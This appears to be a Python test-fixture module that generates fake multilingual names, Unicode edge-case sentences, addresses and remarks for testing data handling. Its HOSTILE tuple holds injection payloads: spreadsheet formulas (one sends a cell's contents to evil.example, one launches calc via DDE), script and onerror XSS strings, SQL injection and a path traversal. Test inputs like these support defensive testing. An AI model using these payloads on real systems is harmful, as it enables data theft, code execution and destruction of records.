"""Names, sentences and hostile strings in many scripts; nothing in here belongs to a real person."""

from __future__ import annotations

from random import Random

# Per script: given names, family names, and how the two are put together.
NAMES = (
    (("Ann", "Robert", "Grace", "Samuel"), ("Okafor", "Whitfield", "O'Neil", "Smith-Jones"), "{0} {1}"),
    (("Zoë", "François", "Małgorzata", "Søren"), ("Müller", "Łukasik", "Ångström", "Núñez"), "{0} {1}"),
    (("Đặng", "Şule", "Žofie", "Ğökçe"), ("Nguyễn", "İnönü", "Dvořáková", "Őry"), "{0} {1}"),
    (("Анна", "Дмитро", "Светлана", "Ђорђе"), ("Коваленко", "Иванова", "Петровић", "Щербак"), "{0} {1}"),
    (("Ελένη", "Γιώργος", "Σοφία"), ("Παπαδοπούλου", "Νικολάου", "Ιωάννου"), "{0} {1}"),
    (("فاطمة", "يوسف", "مريم"), ("الحسن", "بن عمر", "القاسم"), "{0} {1}"),
    (("שרה", "דוד", "נועה"), ("כהן", "לוי", "מזרחי"), "{0} {1}"),
    (("प्रिया", "अर्जुन", "लक्ष्मी"), ("शर्मा", "पटेल", "कृष्णन"), "{0} {1}"),
    (("สมชาย", "กัญญา", "ณัฐพล"), ("ใจดี", "ศรีสุข", "วงศ์ทอง"), "{0} {1}"),
    (("小明", "静怡", "𠮷生"), ("王", "欧阳", "李"), "{1}{0}"),
    (("さくら", "太郎", "ハナコ"), ("佐藤", "髙橋", "渡邉"), "{1} {0}"),
    (("민준", "서연", "하은"), ("김", "이", "박"), "{1}{0}"),
)

# One sentence per script and some letters that break careless code: combining marks, marks of direction, astral planes.
SCRIPTS = (
    "Größe, naïveté, Łódź, señor, Ångström, œuvre",
    "Tiê\u0301ng Việt co\u0301 dấu (combining marks)",
    "Договор продлён до конца года; щёголь съел ёжика",
    "Η συνάντηση μεταφέρθηκε για την Παρασκευή, Σίσυφος",
    "تم تجديد العقد حتى نهاية السنة ١٢٣",
    "הפגישה נדחתה ליום שישי",
    "अनुबंध वर्ष के अंत तक बढ़ा दिया गया है",
    "ต่อสัญญาถึงสิ้นปีแล้ว",
    "合同已续签至年底，𠮷野家",
    "契約は年末まで更新されました。ﾊﾝｶｸ",
    "계약이 연말까지 갱신되었습니다",
    "Launch day \U0001f680\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001d49c\U0001d4b6 \U0001f1ea\U0001f1fa",
    "\u200fعقد\u200e (A-17) \u202bשלום\u202c \u2067abc\u2069",
    "soft\u00adhyphen, zero\u200bwidth, no\u00a0break, line\u2028separator, \ufeffBOM inside",
)

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+44 7700 900000+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert('x')</script>",
    '<img src="http://evil.example/x.png" onerror=alert(1)> & ]]> <!-- &amp;',
    "He said \"no\", she said 'yes'; both, meant `it`",
    "line one\nline two\r\nline three\n",
    "tab\there, comma, semicolon; pipe|",
    "back\\slash \\n \\N \\. \\u0041 C:\\temp\\",
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "%s %(name)s {0} {{ request }} ${HOME} $1 :p1 ?",
    "../../etc/passwd",
    "NULL",
    "\u0001\u001f\u007f control",
    " leading and trailing space ",
    "00123",
    "1e5",
    "1/2",
)

REMARKS = (
    "Moved to next week.",
    "Please check the figures before Friday.",
    "Renewal agreed; the contract is in the shared folder.",
    "Asked for a second quote, answer expected by the end of the month.",
    "Nothing to add.",
    "Works now after the second attempt.",
    "The budget is 12,400.50 and may not be exceeded.",
    "Postponed, see the notes of the last meeting.",
    "",
    None,
)

# Filled with the name, the e-mail address and the phone number of somebody else.
ABOUT_OTHERS = (
    "Please call {name} ({email}, {phone}) about the renewal.",
    "Forwarded by {name} <{email}>: the invoice is wrong again.",
    "{name} is ill until Monday, their number is {phone}.",
    "cc {email}",
)

STEMS = ("anna", "ben", "carla", "deniz", "emil", "fatou", "goran", "hanna", "ivo", "jo", "kim", "lena", "mia", "noor")
DOMAINS = ("example.test", "mail.example", "company.test", "post.example")
STREETS = (
    "Rue de l'Église 4 bis",
    "Ödegårdsvägen 11",
    "12 Harbour Road",
    "ул. Садовая, 7",
    "中山路100号",
    "شارع النيل ٥",
)
CITIES = ("Liège", "Malmö", "Kraków", "Αθήνα", "東京", "القاهرة", "München", "São Paulo")
COUNTRIES = ("BE", "SE", "PL", "GR", "JP", "EG", "DE", "BR")
LOCALES = ("en", "fr", "de", "ar", "he", "ja", "pt-BR", "uk")


def full_name(pick: Random) -> str:
    """Put a name together from one script."""
    given, family, pattern = pick.choice(NAMES)
    return pattern.format(pick.choice(given), pick.choice(family))
